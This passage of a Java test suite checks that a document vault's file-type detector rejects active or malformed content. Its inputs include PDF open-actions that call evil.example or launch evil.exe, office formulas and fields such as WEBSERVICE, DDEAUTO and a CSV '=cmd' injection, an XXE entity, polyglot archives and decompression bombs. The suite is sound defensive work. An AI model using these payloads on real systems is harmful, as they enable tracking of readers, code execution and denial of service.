package org.redress.vault;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.redress.vault.Samples.box;
import static org.redress.vault.Samples.bytes;
import static org.redress.vault.Samples.heic;
import static org.redress.vault.Samples.one;
import static org.redress.vault.Samples.pdf;
import static org.redress.vault.Samples.picture;
import static org.redress.vault.Samples.word;
import static org.redress.vault.Samples.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a document is, by its content. */
class FileTypesTest {

    private static final byte[] WEBP =
            Base64.getDecoder().decode("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA");
    private static final byte[] LOSSLESS_WEBP =
            Base64.getDecoder().decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    %PDF-1.7 %%EOF                   | application/pdf
                    What the guard said, word for word. | text/plain
                    day,pay\\n1,2                    | text/plain
                    """)
    void isKnownByItsContent(String content, String type) {
        assertThat(FileTypes.of(bytes(plain(content)))).contains(type);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<html><body>x",
                "  <!DOCTYPE html>",
                "<script>alert(1)</script>",
                "\\n\\n<!-- x --><html>",
                "\\u00ef\\u00bb\\u00bf<script>",
                "\\u00ff\\u00fe<\\u0000s\\u0000c\\u0000r\\u0000i\\u0000p\\u0000t\\u0000>\\u0000",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
                "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
                "<?php echo 1;",
                "#!/bin/sh",
                "@echo off",
                "MZ\\u0090\\u0000",
                "\\u007fELF\\u0002\\u0001",
                "\\u00ca\\u00fe\\u00ba\\u00be\\u0000\\u0000\\u0000\\u0034",
                "\\u00d0\\u00cf\\u0011\\u00e0\\u00a1\\u00b1\\u001a\\u00e1",
                "{\\u005crtf1",
                "GIF89a<script>",
                "%PDF-1.7 and no end",
                "\\u00ff\\u00d8\\u00ff\\u00e0\\u0000\\u0010JFIF\\u0000",
                "\\u0089PNG\\r\\n\\u001a\\n\\u0000\\u0000\\u0000\\rIHDR",
                "RIFF\\u0000\\u0000\\u0000\\u0000WEBPVP8\\u0020",
                "\\u0000\\u0000\\u0000\\u0020ftypheic",
                "RIFF\\u0000\\u0000\\u0000\\u0000WAVEfmt\\u0020",
                "ID3\\u0003\\u0000",
                "\\u00ff\\u00fb\\u0090\\u0044",
                "\\u0000\\u0000\\u0000\\u0020ftypisom",
                "junk before %PDF-1.7",
                "\\n%PDF-1.7",
                "\\u0000\\u0001nothing known"
            })
    void nothingThatRunsHasAType(String content) {
        assertThat(FileTypes.of(bytes(plain(content)))).isEmpty();
    }

    static Stream<Arguments> recordings() {
        return Stream.of(
                Arguments.of("audio/wav", wav(40, 40)),
                Arguments.of("audio/ogg", one(opus(2), opus(4))),
                Arguments.of("audio/mpeg", tagged(frames(3))),
                Arguments.of("audio/mpeg", frames(2)),
                Arguments.of("audio/mp4", film("M4A ", 1)),
                Arguments.of("video/mp4", film("isom", 1)),
                Arguments.of("video/mp4", film("mp42", 1)),
                Arguments.of("video/quicktime", film("qt  ", 1)),
                Arguments.of("video/3gpp", film("3gp4", 1)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("recordings")
    void aRecordingIsOneWhenItIsMadeAsItsTypeSays(String type, byte[] whole) {
        assertThat(FileTypes.of(whole)).contains(type);
        assertThat(FileTypes.of(Arrays.copyOf(whole, 16))).as("its beginning").isEmpty();
        assertThat(FileTypes.of(one(whole, bytes("<script>alert(1)</script> and more words"))))
                .as("with a page behind it")
                .isEmpty();
    }

    /** Of the parser, whatever an attacker made of it. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("recordings")
    void aBrokenRecordingBreaksNothing(String type, byte[] whole) {
        Random chance = new Random(1);
        for (int round = 0; round < 3_000; round++) {
            byte[] changed = Arrays.copyOf(whole, chance.nextInt(whole.length) + 1);
            for (int change = chance.nextInt(6); change >= 0; change--) {
                changed[chance.nextInt(changed.length)] = (byte) (chance.nextBoolean() ? 0 : chance.nextInt());
            }
            assertThatCode(() -> Recordings.isWhole(type, changed)).doesNotThrowAnyException();
        }
    }

    /** Telephones lose the end of a call: what is there of it is taken. */
    @Test
    void aRecordingThatBrokeOffIsTaken() {
        byte[] call = one(opus(2), opus(4));
        assertThat(FileTypes.of(Arrays.copyOf(call, call.length - 5))).contains("audio/ogg");
        for (int said : new int[] {4_000, 0, 0xFFFFFFFF}) {
            assertThat(FileTypes.of(wav(said, 40))).contains("audio/wav");
        }
        assertThat(FileTypes.of(Arrays.copyOf(frames(3), 417 * 2 + 100))).contains("audio/mpeg");
        byte[] film = film("isom", 1);
        assertThat(FileTypes.of(Arrays.copyOf(film, film.length - 5))).contains("video/mp4");
    }

    /** A player that opens it would ask a server for the rest, and tell it where it sits. */
    @Test
    void aFilmThatLiesElsewhereHasNoType() {
        assertThat(FileTypes.of(film("qt  ", 0))).as("its data in another file").isEmpty();
        for (String list : List.of("rmra", "cmov")) {
            byte[] film = one(
                    one(box("ftyp", bytes("qt  \0\0\0\0qt  ")), box("moov", box(list, new byte[16]))),
                    box("mdat", new byte[40]));
            assertThat(FileTypes.of(film)).as(list).isEmpty();
        }
    }

    @Test
    void whatIsNoPartOfASoundIsNotTaken() {
        byte[] wav = wav(40, 40);
        byte[] noFormat = wav.clone();
        noFormat[12] = 'x';
        assertThat(FileTypes.of(noFormat)).as("sound before its format").isEmpty();
        byte[] frames = frames(3);
        frames[417] = '<';
        assertThat(FileTypes.of(frames)).as("something between two frames").isEmpty();
        byte[] film = film("isom", 1);
        film[24 + 3]++;
        assertThat(FileTypes.of(film))
                .as("parts that do not fit into each other")
                .isEmpty();
    }

    private static byte[] wav(int said, int length) {
        return ByteBuffer.allocate(44 + length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(bytes("RIFF"))
                .putInt(36 + length)
                .put(bytes("WAVEfmt "))
                .putInt(16)
                .putShort((short) 1)
                .putShort((short) 1)
                .putInt(8_000)
                .putInt(8_000)
                .putShort((short) 1)
                .putShort((short) 8)
                .put(bytes("data"))
                .putInt(said)
                .array();
    }

    /** One page, with a flag that says whether it is the first (2) or the last (4). */
    private static byte[] opus(int flag) {
        ByteBuffer page = ByteBuffer.allocate(27 + 1 + 19)
                .put(bytes("OggS"))
                .put((byte) 0)
                .put((byte) flag);
        page.position(26);
        return page.put((byte) 1).put((byte) 19).put(bytes("OpusHead")).array();
    }

    /** 128 kilobits and 44,100 hertz: 417 bytes each. */
    private static byte[] frames(int many) {
        ByteBuffer frames = ByteBuffer.allocate(417 * many);
        for (int frame = 0; frame < many; frame++) {
            frames.position(417 * frame).put(bytes("\u00ff\u00fb\u0090D"));
        }
        return frames.array();
    }

    private static byte[] tagged(byte[] frames) {
        return one(one(bytes("ID3\3\0\0\0\0\0\4tags"), frames), bytes("TAG" + " ".repeat(125)));
    }

    /** @param own 1 where it says that its data lie in this file, 0 where they lie in another */
    private static byte[] film(String brand, int own) {
        byte[] lies = box("url ", new byte[] {0, 0, 0, (byte) own});
        byte[] list = box("dref", one(new byte[] {0, 0, 0, 0, 0, 0, 0, 1}, lies));
        byte[] track = box("trak", box("mdia", box("minf", box("dinf", list))));
        return one(
                one(box("ftyp", bytes(brand + "\0\0\0\0" + brand + "isom")), box("moov", track)),
                box("mdat", new byte[40]));
    }

    static Stream<Arguments> pictures() {
        return Stream.of(
                Arguments.of("image/jpeg", picture("jpg", 40, 30)),
                Arguments.of("image/png", picture("png", 40, 30)),
                Arguments.of("image/webp", WEBP),
                Arguments.of("image/webp", LOSSLESS_WEBP),
                Arguments.of("image/heic", heic(4032, 3024)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("pictures")
    void aPictureIsOneOnlyWhenItIsWhole(String type, byte[] whole) {
        assertThat(FileTypes.of(whole)).contains(type);
        for (int length = 1; length < whole.length; length++) {
            assertThat(FileTypes.of(Arrays.copyOf(whole, length)))
                    .as("the first %d of %d bytes", length, whole.length)
                    .isNotEqualTo(Optional.of(type));
        }
    }

    /** A telephone puts a second picture or a film behind the first. */
    @Test
    void whatATelephonePutsBehindAPhotographIsNoHindrance() {
        assertThat(FileTypes.of(one(picture("jpg", 40, 30), picture("jpg", 4, 3))))
                .contains("image/jpeg");
        assertThat(FileTypes.of(one(picture("jpg", 40, 30), bytes("MotionPhoto_Data\0\0\0\30ftypmp42"))))
                .contains("image/jpeg");
    }

    /** A few bytes that would be gigabytes on the screen of whoever opens them. */
    @Test
    void whatNoMachineCanShowIsNotTaken() {
        byte[] png = picture("png", 40, 30);
        for (int[] sides : new int[][] {{0, 30}, {40, 0}, {60_000, 60_000}, {1_000_000, 1}, {-1, -1}}) {
            byte[] bomb = png.clone();
            ByteBuffer.wrap(bomb).putInt(16, sides[0]).putInt(20, sides[1]);
            assertThat(FileTypes.of(bomb)).as(Arrays.toString(sides)).isEmpty();
        }
        assertThat(FileTypes.of(heic(100_000, 100_000))).isEmpty();
        assertThat(FileTypes.of(heic(16_320, 12_240)))
                .as("the largest telephone")
                .contains("image/heic");
    }

    /** Boxes in boxes in boxes: each takes a piece of the stack of whoever goes into it. */
    @Test
    void aPictureOfNothingButBoxesIsNoneAndBreaksNothing() {
        int deep = 200_000;
        ByteBuffer boxes = ByteBuffer.allocate(8 * deep);
        for (int left = deep; left > 0; left--) {
            boxes.putInt(8 * left).put(bytes("ipco"));
        }
        byte[] bomb = one(
                one(box("ftyp", bytes("heic\0\0\0\0mif1heic")), box("meta", one(new byte[4], boxes.array()))),
                box("mdat", new byte[40]));
        assertThat(FileTypes.of(bomb)).isEmpty();
    }

    /** Neither a loop without end nor an error: any byte may be anything. */
    @Test
    void noBytesMakeTheReaderStumble() {
        Random random = new Random(7);
        pictures().forEach(each -> {
            byte[] whole = (byte[]) each.get()[1];
            for (int round = 0; round < 2_000; round++) {
                byte[] changed = whole.clone();
                for (int change = 0; change <= random.nextInt(4); change++) {
                    changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
                }
                for (String type : List.of("image/jpeg", "image/png", "image/webp", "image/heic")) {
                    assertThatCode(() -> Pictures.isWhole(type, changed)).doesNotThrowAnyException();
                }
            }
        });
    }

    @Test
    void officeDocumentsAreKnownByWhatIsInThem() {
        assertThat(FileTypes.of(word(Map.of()))).contains(Packed.DOCX);
        assertThat(FileTypes.of(word(Map.of("word/media/image1.png", "x", "docProps/app.xml", "<x/>"))))
                .contains(Packed.DOCX);
        assertThat(FileTypes.of(zip(Map.of("mimetype", Packed.ODT)))).contains(Packed.ODT);
        assertThat(FileTypes.of(zip(Map.of("mimetype", Packed.ODS)))).contains(Packed.ODS);
        assertThat(FileTypes.of(zip(Map.of(
                        "[Content_Types].xml",
                                "<Types><Override ContentType=\"" + Packed.XLSX + ".main+xml\"/></Types>",
                        "xl/workbook.xml", "<workbook/>",
                        "xl/printerSettings/printerSettings1.bin", "x"))))
                .contains(Packed.XLSX);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "word/vbaData.xml",
                "word/activeX/activeX1.xml",
                "word/embeddings/oleObject1.bin",
                "word\\embeddings\\run.exe",
                "xl/macrosheets/sheet1.xml",
                "Basic/Standard/Module1.xml",
                "Scripts/python/run.py",
                "xl/connections.xml",
                "xl/queryTables/queryTable1.xml",
                "word/webextensions/taskpanes.xml",
                "page.html"
            })
    void withAProgramInItNoneIsTaken(String entry) {
        assertThat(FileTypes.of(word(Map.of(entry, "x")))).isEmpty();
    }

    @Test
    void anArchiveIsNoDocument() {
        assertThat(FileTypes.of(zip(Map.of("a.txt", "x")))).isEmpty();
        assertThat(FileTypes.of(zip(Map.of("META-INF/MANIFEST.MF", "x", "A.class", "x"))))
                .isEmpty();
        assertThat(FileTypes.of(zip(Map.of(
                        "[Content_Types].xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml " + Packed.DOCX,
                        "word/document.xml",
                        "x"))))
                .isEmpty();
        assertThat(FileTypes.of(zip(Map.of("mimetype", "application/vnd.oasis.opendocument.graphics"))))
                .isEmpty();
        assertThat(FileTypes.of(bytes("PK\3\4\24\0 and nothing more"))).isEmpty();
    }

    /** A list of contents that hides an entry from us would show another reader the macros. */
    @Test
    void whatTheListOfContentsHidesIsNotTaken() throws Exception {
        byte[] shown = word(Map.of());
        byte[] hidden = zip(Map.of("word/vbaProject.bin", "x"));
        byte[] both = one(hidden, shown);
        try (ZipInputStream another = new ZipInputStream(new java.io.ByteArrayInputStream(both))) {
            assertThat(java.util.Objects.requireNonNull(another.getNextEntry()).getName())
                    .as("another reader finds the macros")
                    .isEqualTo("word/vbaProject.bin");
        }
        assertThat(FileTypes.of(both)).isEmpty();
    }

    @Test
    void nothingIsTwoThingsAtOnce() {
        byte[] jar = zip(Map.of("META-INF/MANIFEST.MF", "Main-Class: Evil", "Evil.class", "x"));
        assertThat(FileTypes.of(pdf("harmless"))).contains("application/pdf");
        assertThat(FileTypes.of(one(pdf("harmless"), jar))).isEmpty();
        assertThat(FileTypes.of(one(picture("jpg", 4, 3), jar))).isEmpty();
        assertThat(FileTypes.of(one(bytes("plain words "), word(Map.of())))).isEmpty();
    }

    private static String plain(String written) {
        return java.util.regex.Pattern.compile("\\\\u([0-9a-f]{4})")
                .matcher(written.replace("\\n", "\n").replace("\\r", "\r"))
                .replaceAll(sign -> java.util.regex.Matcher.quoteReplacement(
                        String.valueOf((char) Integer.parseInt(sign.group(1), 16))));
    }

    /** A document that asks a server for something as it is opened tells where its reader sits. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
                "/OpenAction<</S/URI/URI(http://evil.example/)>>",
                "/OpenAction 5 0 R 5 0 obj << /S /URI /URI (http://evil.example/) >> endobj",
                "5 0 obj\n<</Type/Action/URI(http://evil.example/)/S/URI>>\nendobj /OpenAction 5 0 R",
                "/OpenAction 5 0 R 5 0 obj << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/) >> >> endobj",
                "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
                "/OpenAction 5 0 R 5 0 obj << /S /#55RI /URI (http://evil.example/) >> endobj",
                "/OpenAction 5 0 R 5 0 obj [3 0 R /Fit] endobj 5 0 obj << /S /URI /URI (http://evil.example/) >> endobj",
                "/OpenAction 5 0 R 5 0 obj << /S 7 0 R /URI (http://evil.example/) >> endobj 7 0 obj /URI endobj",
                "/OpenAction 5 0 R 5 0 obj 7 0 R endobj 7 0 obj << /S /URI /URI (http://evil.example/) >> endobj",
                "/OpenAction 0000000005 0 R 5 0 obj << /S /URI /URI (http://evil.example/) >> endobj",
                "/OpenAction 5 0 R 0000000005 0 obj << /S /URI /URI (http://evil.example/) >> endobj",
                "/OpenAction 5 0 R 5 0 obj [3 0 R /Fit] endobj 5%x\n0 obj << /S /URI /URI (http://evil.example/) >> endobj",
                "/OpenAction%x\n<< /S /URI /URI (http://evil.example/) >>",
                "/OpenAction 0000000000005 0 R",
                "/OpenAction (5 0 R)",
                "/OpenAction 5 0 R and no such object",
                "<< /S /Launch /F (evil.exe) >>",
                "<< /S /J#61vaScript >>",
                "/AA << /O << /S /URI /URI (http://evil.example/) >> >>",
                "/AA 12 0 R",
                "/Names << /EmbeddedFiles 4 0 R >>",
                "<< /S /SubmitForm /F (http://evil.example/) >>",
                "<< /Type /Filespec /FS /URL /F (http://evil.example/) >>",
                "trailer << /Encrypt 5 0 R >>",
                "<< /Type /ObjStm /Length 0 >> and no stream",
                "<< /Type /ObjStm /Filter /LZWDecode >> stream\nabc\nendstream"
            })
    void aPdfThatActsHasNoType(String acts) {
        assertThat(FileTypes.of(pdf(acts))).isEmpty();
    }

    @Test
    void whatAPdfPacksIsSearchedToo() {
        assertThat(FileTypes.of(pdfWithPacked("<< /S /JavaScript /JS (x) >>"))).isEmpty();
        assertThat(FileTypes.of(pdfWithPacked("<< /S /GoTo /D [3 0 R /Fit] >>")))
                .contains("application/pdf");
    }

    /** The action in the list of packed objects, and who refers to it outside. */
    @Test
    void whatIsDoneFirstIsFoundInPackedObjectsToo() {
        for (String action : List.of("<< /S /URI /URI (http://evil.example/) >>", "7 0 R")) {
            assertThat(FileTypes.of(pdfWithPacked("5 0 " + action, "/OpenAction 5 0 R")))
                    .as(action)
                    .isEmpty();
            assertThat(FileTypes.of(pdfWithPacked("6 0 " + action, "/OpenAction 5 0 R 5 0 obj [3 0 R /Fit] endobj")))
                    .as("another object")
                    .contains("application/pdf");
            assertThat(FileTypes.of(pdfWithPacked("6 0 " + action, "/OpenAction 5 0 R")))
                    .as("one that is nowhere")
                    .isEmpty();
        }
        assertThat(FileTypes.of(pdfWithPacked("5 0 [3 0 R /Fit]", "/OpenAction 5 0 R")))
                .contains("application/pdf");
    }

    @Test
    void aListOfPackedObjectsUnderAnotherSpellingIsNotOverlooked() {
        byte[] list = pdfWithPacked("5 0 << /S /URI /URI (http://evil.example/) >>", "/OpenAction 5 0 R");
        String written = new String(list, StandardCharsets.ISO_8859_1);
        assertThat(FileTypes.of(written.replace("/ObjStm", "/Obj#53tm").getBytes(StandardCharsets.ISO_8859_1)))
                .isEmpty();
        String harmless = new String(pdfWithPacked("5 0 [3 0 R /Fit]", ""), StandardCharsets.ISO_8859_1);
        assertThat(FileTypes.of(harmless.getBytes(StandardCharsets.ISO_8859_1))).contains("application/pdf");
        assertThat(FileTypes.of(harmless.replace("/ObjStm", "/ObjStm /ObjStm").getBytes(StandardCharsets.ISO_8859_1)))
                .as("two names of one list")
                .isEmpty();
    }

    /** Kept for each name of a list were some kilobytes of what stands before it. */
    @Test
    void manyNamesOfFewListsTakeNoMemory() {
        String packed = new String(packed("1 0 true"), StandardCharsets.ISO_8859_1);
        String one = "/ObjStm ".repeat(200) + "/First 4 stream\n" + packed + "\n";
        String many = "/ObjStm /First 4 stream\n" + packed + "\n";
        for (String piece : List.of(one, many)) {
            byte[] drawnOut = pdf("/OpenAction 1 0 R " + piece.repeat(3_000_000 / piece.length()));
            long before = allocated();
            assertWork(Duration.ofSeconds(6), () -> FileTypes.of(drawnOut), piece.substring(0, 16));
            // What is thrown away again counts too: a list costs a buffer of 64 KB, 20,000 times at most.
            assertThat(allocated() - before).isLessThan(2_000_000_000L);
        }
    }

    private static long allocated() {
        return ((com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean()).getCurrentThreadAllocatedBytes();
    }

    @Test
    void aPdfOfNothingButFirstActionsIsLookedAtInNoTime() {
        for (String piece : List.of("/OpenAction 5 0 R ", "/OpenAction<<", "5 0 obj <<", "1", "5 0 obj ", "5 ")) {
            byte[] drawnOut = pdf("/OpenAction 5 0 R " + piece.repeat(10_000_000 / piece.length()));
            assertWork(Duration.ofSeconds(4), () -> FileTypes.of(drawnOut), piece);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/OpenAction [3 0 R /Fit]",
                "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
                "/OpenAction 5 0 R 5 0 obj [3 0 R /XYZ null null 0] endobj 6 0 obj << /S /URI /URI (https://example.org) >> endobj",
                "5 0 obj\n<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>\nendobj\n/OpenAction 5 0 R",
                "15 0 obj << /S /URI /URI (https://example.org) >> endobj /OpenAction 5 0 R 5 0 obj [3 0 R /Fit] endobj",
                "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>]"
            })
    void aPdfWithALinkOrAFirstPageIsTaken(String harmless) {
        assertThat(FileTypes.of(pdf(harmless))).contains("application/pdf");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            textBlock =
                    """
                    attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External
                    image" Target="file://evil.example/x.png" TargetMode = 'External
                    image" Target="file://evil.example/x.png" TargetMode="&#69;xternal
                    image" Target="//evil.example/x.png" x=">" TargetMode="External
                    image" xmlns:x="/hyperlink" Target="//evil.example/x.png" TargetMode="External
                    image" xmlns:y="urn:y" y:Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="//evil.example/x.png" TargetMode="External
                    image" Target="http://evil.example/x.png
                    aFChunk" Target="chunk.txt
                    connections" Target="c.txt
                    """)
    void anOfficeDocumentThatFetchesHasNoType(String relation) {
        assertThat(FileTypes.of(word(Map.of("word/_rels/document.xml.rels", relationship(relation)))))
                .isEmpty();
    }

    @Test
    void anOfficeDocumentWithALinkIsTaken() {
        assertThat(FileTypes.of(word(Map.of(
                        "word/_rels/document.xml.rels",
                        relationship("hyperlink\" Target=\"https://example.org\" TargetMode=\"External")))))
                .contains(Packed.DOCX);
    }

    /** Made unreadable, one of some hundreds begins like text with tags. */
    @Test
    void aFontThatADocumentBringsIsTakenWhateverItBeginsWith() {
        for (String font : List.of("<\u0001\u0002 no tag", " \n<r\u0007", "<r>", "\u0000<\u0000x")) {
            assertThat(FileTypes.of(withFont(font, FONT_TYPE, FONT_RELATION, "fonts/font1.odttf")))
                    .as(font)
                    .contains(Packed.DOCX);
        }
    }

    /** What is called so, and read as text with tags. */
    @Test
    void whatIsOnlyCalledAFontIsReadAllTheSame() {
        String fetches = "<r><f>WEBSERVICE(\"http://evil.example/\")</f></r>";
        String image = FONT_RELATION.replace("/font", "/header");
        String text = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
        for (byte[] document : List.of(
                withFont(fetches, text, FONT_RELATION, "fonts/font1.odttf"),
                withFont(fetches, FONT_TYPE, image, "fonts/font1.odttf"),
                withFont(fetches, FONT_TYPE, image, "fonts/FONT1.ODTTF"),
                withFont(fetches, FONT_TYPE, image, "fonts/font1%2Eodttf"),
                withFont(fetches, FONT_TYPE, image, "/word/fonts/font1.odttf#x"),
                withFont("<?xml version='1.0'?>" + fetches, FONT_TYPE, FONT_RELATION, "fonts/font1.odttf"),
                withFont(
                        fetches,
                        FONT_TYPE + "\"/><Override PartName=\"/word/fonts/font1.odttf\" ContentType=\"" + text,
                        FONT_RELATION,
                        "fonts/font1.odttf"),
                word(Map.of("word/fonts/font1.odttf", fetches)),
                word(Map.of("word/media/font1.odttf", fetches)))) {
            assertThat(FileTypes.of(document)).isEmpty();
        }
    }

    private static final String FONT_TYPE = "application/vnd.openxmlformats-officedocument.obfuscatedFont";
    private static final String FONT_RELATION =
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/font";

    private static byte[] withFont(String font, String type, String relation, String target) {
        return word(Map.of(
                "[Content_Types].xml",
                "<Types><Default Extension=\"odttf\" ContentType=\"" + type
                        + "\"/><Override PartName=\"/word/document.xml\" ContentType=\"" + Packed.DOCX
                        + ".main+xml\"/></Types>",
                "word/_rels/fontTable.xml.rels",
                "<Relationships><Relationship Id=\"r1\" Type=\"" + relation + "\" Target=\"" + target
                        + "\"/></Relationships>",
                "word/fonts/font1.odttf",
                font));
    }

    @Test
    void anOpenDocumentThatFetchesHasNoType() {
        for (String fetches : List.of(
                "<draw:image xlink:href=\"http://evil.example/x.png\"/>",
                "<draw:image l:href=\"http://evil.example/x.png\"/>",
                "<draw:image draw:name='>' xlink:href=' &#104;ttp://evil.example/x.png'/>",
                "<a:a xmlns:a='urn:a' xlink:href='//evil.example/x'/>",
                "<text:section-source xlink:href='//evil.example/x'/>",
                "<table:cell table:formula='of:=WEBSERVICE(&quot;http://evil.example&quot;)'/>",
                "<table:cell table:formula=\"of:='http://evil.example/x.ods'#$A.B1\"/>",
                "<text:dde-connection-decl/>",
                "<draw:not-closed>")) {
            assertThat(FileTypes.of(open(fetches))).as(fetches).isEmpty();
        }
        assertThat(
                        FileTypes.of(
                                open(
                                        "<text:a xlink:href=\"https://example.org\">x</text:a>"
                                                + "<t:a xmlns:t='urn:oasis:names:tc:opendocument:xmlns:text:1.0' l:href='https://example.org'/>"
                                                + "<draw:image xlink:href=\"Pictures/1.png\"/><table:cell table:formula='of:=SUM([.A1:.A2])'/>")))
                .contains(Packed.ODT);
    }

    /** Meta data of every document say where its template lies; LibreOffice leaves empty parts. */
    @Test
    void anOpenDocumentMayHaveATemplateOnTheMachineOfItsWriter() {
        String meta =
                "<m:x xmlns:m='urn:oasis:names:tc:opendocument:xmlns:meta:1.0' xmlns:l='http://www.w3.org/1999/xlink'>"
                        + "<m:template l:href='%s'/></m:x>";
        for (String own : List.of("file:///C:/Templates/letter.ott", "../letter.ott")) {
            assertThat(FileTypes.of(zip(Map.of(
                            "mimetype",
                            Packed.ODT,
                            "meta.xml",
                            meta.formatted(own),
                            "Configurations2/accelerator/current.xml",
                            ""))))
                    .as(own)
                    .contains(Packed.ODT);
        }
        for (String others : List.of("http://evil.example/x.ott", "file://evil.example/x.ott", "file:////evil/x.ott")) {
            assertThat(FileTypes.of(zip(Map.of("mimetype", Packed.ODT, "meta.xml", meta.formatted(others)))))
                    .as(others)
                    .isEmpty();
        }
    }

    /** In whichever entry: a relation says which one is a sheet. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f>",
                "<f>_xlfn.WEB<!-- -->SERVICE (A1)</f>",
                "<x:f xmlns:x='urn:x'>_xlfn.IMAGE(A1)</x:f>",
                "<definedName>webservice(A1)</definedName>",
                "<f>RTD(\"evil.server\",,1)</f>",
                "<w:instrText xmlns:w='urn:w'>INCLUDEPICTURE \"http://evil.example/x.png\" \\d</w:instrText>",
                "<p><instrText> INC</instrText><r/><instrText>LUDETEXT \"//evil/x\"</instrText></p>",
                "<fldSimple instr=' DDEAUTO excel x'/>",
                "<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='http://evil.example/x.png'/>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/'>]><x>&e;</x>",
                "<?xml version='1.0' encoding='IBM037'?><x/>",
                "not closed: <x>"
            })
    void aSheetOrATextThatAsksAServerHasNoType(String part) {
        assertThat(FileTypes.of(word(Map.of("word/sheet.xml", part)))).isEmpty();
        if (part.startsWith("<")) {
            assertThat(FileTypes.of(word(Map.of("word/media/image1.png", part))))
                    .isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<f>SUM(A1:A9)</f>",
                "<t>They told us of a WEBSERVICE( and nothing more</t>",
                "<p><fldChar/><instrText> HYPERLINK \"https://example.org/link\" </instrText></p>",
                "<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='https://example.org'/>",
                "<?xml version='1.0' encoding='UTF-8' standalone='yes'?><x>&lt;Relationship&#62;</x>"
            })
    void whatWaitsOrIsToldIsTaken(String part) {
        assertThat(FileTypes.of(word(Map.of("word/part.xml", part)))).contains(Packed.DOCX);
    }

    /** A few kilobytes that would keep a processor busy for hours, or fill the memory. */
    @Test
    void whatPacksSmallIsLookedAtInNoTime() {
        int long64 = 64 * 1024 * 1024;
        for (String piece :
                List.of("<Relationship ", "<a:b ", "<a>", "<a b='", "<a>'a:'</a>", " ", "\n", "'a:", "\0")) {
            for (String around : List.of("", "<r>")) {
                String text = around + piece.repeat(long64 / piece.length());
                byte[] word = word(Map.of("word/_rels/document.xml.rels", text));
                byte[] open = zip(Map.of("mimetype", Packed.ODT, "content.xml", text));
                for (byte[] each : List.of(word, open)) {
                    assertThat(each.length).isLessThan(1024 * 1024);
                    assertWork(Duration.ofSeconds(2), () -> assertThat(FileTypes.of(each))
                            .as(around + piece)
                            .isEmpty());
                }
            }
        }
        for (String around : List.of("<r><!--", "<r><?x ")) {
            byte[] drawnOut = word(Map.of("word/x.xml", around + "<".repeat(long64)));
            assertWork(
                    Duration.ofSeconds(2),
                    () -> assertThat(FileTypes.of(drawnOut)).as(around).isEmpty());
        }
        byte[] whole = word(Map.of("word/x.xml", "<r>" + "<f>SUM(A1)</f>".repeat(long64 / 14) + "</r>"));
        assertWork(Duration.ofSeconds(10), () -> assertThat(FileTypes.of(whole)).contains(Packed.DOCX));
        assertThat(FileTypes.of(word(Map.of("word/x.xml", "<r>" + "<f>SUM(A1)</f>".repeat(long64 / 6) + "</r>"))))
                .as("more than anybody reads")
                .isEmpty();
    }

    @Test
    void aTableWithFormulasIsSavedAsText() {
        assertThat(FileAnswers.savedAs(
                        "pay.csv", "text/plain", bytes("day;pay\n1;=HYPERLINK(\"http://evil.example\")")))
                .isEqualTo("pay.csv.txt");
        assertThat(FileAnswers.savedAs("pay.csv", "text/plain", bytes("\"=cmd|' /C x'!A0\",1")))
                .isEqualTo("pay.csv.txt");
        assertThat(FileAnswers.savedAs("pay.csv", "text/plain", bytes("day;pay\n1;-5,20")))
                .isEqualTo("pay.csv");
        for (String formula : List.of(
                " \n\t ' =1", "a,+A1", "a;- (1)", "\u00ef\u00bb\u00bf=1", "\u00ff\u00fe=\0001\000", "\"@SUM(1)")) {
            assertThat(Inert.hasFormulas(bytes(formula))).as(formula).isTrue();
        }
